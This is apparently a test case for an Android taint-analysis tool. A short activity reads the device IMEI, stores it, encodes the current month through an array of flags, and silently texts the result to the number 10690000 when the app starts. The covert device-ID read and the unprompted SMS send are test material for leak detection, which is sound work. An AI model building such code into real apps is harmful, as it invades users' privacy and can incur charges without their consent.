// about       The month sets one flag of an array; the places of the flags that are set are sent.
// clean       -
// option      --implicit
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Calendar;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String imei = String.valueOf(phone.getDeviceId());
    getPreferences(MODE_PRIVATE).edit().putString("id", imei).apply();
    boolean[] flags = new boolean[128];
    // The flag that is set.
    flags[Calendar.getInstance().get(Calendar.MONTH)] = true;
    StringBuilder set = new StringBuilder();
    for (int i = 0; i < flags.length; i++) {
      if (flags[i]) {
        set.append(i);
      }
    }
    SmsManager.getDefault().sendTextMessage("10690000", null, set.toString(), null, null);
  }
}
